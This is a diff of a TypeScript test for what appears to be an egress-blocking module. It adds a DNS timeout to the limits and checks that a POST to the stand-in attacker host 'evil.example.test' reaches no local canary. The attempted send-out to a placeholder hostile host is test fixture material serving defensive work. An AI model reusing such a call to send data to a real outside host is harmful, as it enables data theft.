@@ -10,7 +10,7 @@ const evil = "evil.example.test";
 /** Sends to a name that a resolver answers for, with a canary on this machine at the port. */
 async function sendTo(resolve: (host: string) => Promise<string[]>) {
   await using canary = await plainPeer(() => undefined);
-  await using egress = await egressTo([], { resolve, limits: { connectMs: 100 } });
+  await using egress = await egressTo([], { resolve, limits: { connectMs: 100, dnsMs: 200 } });
   const sent = await egress.post({ url: `https://${evil}:${canary.port}/`, ...post });
   expect(canary.connections()).toBe(0);
   expect(sent.status).toBeNull();
